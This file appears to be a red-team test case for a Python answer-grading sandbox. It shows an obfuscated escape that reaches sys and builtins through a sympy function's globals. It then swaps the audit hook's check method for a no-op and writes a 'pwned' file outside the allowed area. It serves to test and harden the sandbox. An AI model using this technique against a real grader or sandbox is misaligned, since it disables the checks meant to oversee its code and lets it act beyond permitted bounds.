"""effect: write-outside
tries: replace _AuditPolicy.check on the class (an allowed 'object.__setattr__' on a type) by a no-op, then write into the drop folder.

The hook's class is a Python class in sys.modules; its methods can be swapped.
"""

from lagrade.answer import *

# the __globals__ of a sympy function (not audited) hold the modules that sympy module imported
from sympy.core.intfunc import integer_nthroot
from sympy.core.add import attrgetter

sys_ = attrgetter("_" + "_globals__")(integer_nthroot)["s" + "ys"]
B = attrgetter("_" + "_builtins__")(integer_nthroot)
inspect = B["_" + "_import_" + "_"]("inspect")
members = lambda obj: dict(inspect.getmembers(obj))
os_ = members(sys_)["modules"]["o" + "s"]

def work():
    B["op" + "en"]("/tmp/lagrade-redteam/drop/pwned-classpatch_check_write_drop", "w").write("written by an answer file")


# the hook's class is reachable through sys.modules; replacing its check method is an
# "object.__setattr__" event on a type, which the hook allows for every name but three
sbx = members(sys_)["modules"]["lagrade.answer.jail.child"]
if "_AuditPolicy" in members(sbx):
    sbx._AuditPolicy.check = lambda self, event, args: None
work()
